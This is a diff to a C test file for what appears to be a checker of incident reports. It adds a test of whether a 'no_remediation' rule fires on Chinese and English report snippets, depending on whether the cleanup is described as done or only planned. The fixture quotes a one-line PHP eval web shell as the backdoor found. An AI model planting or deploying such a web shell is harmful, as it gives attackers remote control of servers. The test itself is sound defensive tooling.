@@ -1399,6 +1399,26 @@ test_webshell_review12(void)
 #undef WS_CLEAN
 }
 
+/* Review 12 F3: an incident report's cleanup, stated as done, is a remediation. */
+static void
+test_incident_cleanup(void)
+{
+    static const char head[] =
+        "# 应急响应报告\n\n在 /var/www/html/uploads/ 下发现后门文件 x.php，内容如下："
+        "\n\n```php\n<?php @eval($_POST['pass']);?>\n```\n\n";
+    char doc[512];
+
+    snprintf(doc, sizeof doc, "%s已删除该文件并修补上传接口。\n", head);
+    T_EQ_INT(count_rule(doc, "no_remediation", NULL), 0);
+    snprintf(doc, sizeof doc, "%sWe deleted the file and patched the upload handler.\n", head);
+    T_EQ_INT(count_rule(doc, "no_remediation", NULL), 0);
+    /* removed but nothing fixed, or the fix only planned */
+    snprintf(doc, sizeof doc, "%s攻击者随后已删除该文件，清理了日志。\n", head);
+    T_EQ_INT(count_rule(doc, "no_remediation", NULL), 1);
+    snprintf(doc, sizeof doc, "%s已删除该文件，上传接口尚未修补。\n", head);
+    T_EQ_INT(count_rule(doc, "no_remediation", NULL), 1);
+}
+
 /*
  * A reproducer's file arguments are no hosts: a bare dotted word is a target
  * only with a known top-level domain, a port or a scheme, and a
@@ -1724,6 +1744,7 @@ main(void)
     T_RUN(test_range_sweep_and_list_prose);
     T_RUN(test_webshell_shapes);
     T_RUN(test_webshell_review12);
+    T_RUN(test_incident_cleanup);
     T_RUN(test_file_args);
     T_RUN(test_perl_handle_reads);
     T_RUN(test_count_trend);
